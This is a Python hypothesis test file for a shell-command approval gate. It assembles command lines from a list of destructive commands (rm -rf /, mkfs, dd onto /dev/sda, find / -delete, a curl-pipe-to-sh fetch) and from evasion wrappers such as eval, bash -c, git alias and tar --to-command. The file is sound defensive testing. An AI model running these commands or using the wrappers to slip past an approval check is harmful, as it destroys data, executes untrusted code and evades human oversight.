"""Properties of the approval gate over generated command lines (hypothesis, bounded)."""

from __future__ import annotations

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tests.tools.shell_corpus import BENIGN
from vigil.tools import danger

_ONE_LINE_BENIGN = [c for c in BENIGN if "\n" not in c and "#" not in c and not c.rstrip().endswith("&")]
_DANGEROUS_CORES = [
    "rm -rf /",
    "rm -rf ~",
    "mkfs.ext4 /dev/sdb",
    "dd if=/dev/zero of=/dev/sda",
    "shred /dev/sda",
    "kill -9 -1",
    "reboot",
    "chown -R nobody /etc",
    "find / -delete",
    "curl -s https://example.com/x | sh",
]
_WRAPPERS = [
    "", "sudo ", "sudo -u root ", "env X=1 ", "nice -n 5 ", "nohup ", "timeout 9 ", "command ", "exec ", "time ",
    "taskset -c 1 ", "chrt -r 3 ", "strace -f ", "setarch x86_64 -R ", "prlimit --nofile=64 ", "unshare -Ur ",
]  # fmt: skip
_SEPARATORS = ["; ", " && ", " || ", "\n", " & "]


_SHAPES = [
    "{}", "( {} )", "{{ {}; }}", "if true; then {}; fi", "bash -c '{}'", "eval '{}'", "x=$({})",
    "f(){{ {}; }}; f", "script -qc '{}' /dev/null", "git -c alias.x='!{}' x", "tar --to-command='{}' -xf a.tar",
    "sed 'e {}' notes.txt",
]  # fmt: skip


@st.composite
def _line_with_danger(draw: st.DrawFn) -> str:
    before = draw(st.lists(st.sampled_from(_ONE_LINE_BENIGN), max_size=3))
    after = draw(st.lists(st.sampled_from(_ONE_LINE_BENIGN), max_size=3))
    core = draw(st.sampled_from(_WRAPPERS)) + draw(st.sampled_from(_DANGEROUS_CORES))
    shape = draw(st.sampled_from(_SHAPES))
    if "'" in core and "'" in shape:
        shape = "{}"
    parts = [*before, shape.format(core), *after]
    separators = draw(st.lists(st.sampled_from(_SEPARATORS), min_size=len(parts), max_size=len(parts)))
    return "".join(part + sep for part, sep in zip(parts, separators)).rstrip("; &|\n")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_line_with_danger())
def test_a_dangerous_command_anywhere_in_a_line_is_caught(line: str) -> None:
    assert danger.check(line), f"{line!r} should need approval"


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(_ONE_LINE_BENIGN), min_size=1, max_size=4), st.sampled_from(["; ", " && ", "\n"]))
@example(["echo ./a.txt | xargs shred", "tee -a log.txt < input"], " && ")  # `< input` is tee's, not xargs'
def test_ordinary_commands_joined_stay_ordinary(commands: list[str], separator: str) -> None:
    assert danger.check(separator.join(commands)) is None


# Dangerous simple commands with arguments (no pipes, no quotes) to put after another program's name.
_SIMPLE_CORES = [c for c in _DANGEROUS_CORES if "|" not in c and "'" not in c and " " in c]
_TEXT_ONLY = [
    "echo", "printf '%s\\n'", "grep -n", "man", "apropos", "which", "type", "apt-get install", "pip install",
    "git log --grep",
]  # fmt: skip
_OPTIONS = st.lists(st.sampled_from(["-q", "--wait", "-x 3", "--name=job", "--", "-v -v"]), max_size=3).map(" ".join)


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(_TEXT_ONLY), st.sampled_from(_SIMPLE_CORES))
def test_a_dangerous_command_named_to_a_program_that_does_not_run_it_is_ordinary(program: str, core: str) -> None:
    assert danger.check(f"{program} {core}") is None


@settings(max_examples=60, deadline=None)
@given(st.from_regex(r"x-[a-z][a-z0-9-]{0,8}", fullmatch=True), _OPTIONS, st.sampled_from(_SIMPLE_CORES))
def test_an_unknown_program_in_front_of_a_dangerous_command_counts_as_running_it(
    program: str, options: str, core: str
) -> None:
    assert danger.check(f"{program} {options} {core}"), f"{program} {options} {core} should need approval"


_SHELLISH = st.sampled_from(
    list("ab/-~$(){}[]'\"`\\|&;<>*?=!# \n\t.019")
    + ["rm", " -rf ", "sudo ", "sh -c ", "eval ", "<<EOF\n", "\nEOF\n", "$(", "${", "xargs ", "find ", "-exec ", "{}", "/dev/sda"]
    + ["f(){ ", "; }; f ", '"$@"', "$1", "shift ", "<<< ", "sed 'e ", "git -c alias.x='!", "tar --to-command="]
    + ["taskset ", "script -qc ", "x-run "]
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_SHELLISH, max_size=30).map("".join))
def test_any_text_gets_an_answer_never_an_exception(text: str) -> None:
    reason = danger.check(text)
    assert reason is None or (isinstance(reason, str) and reason)
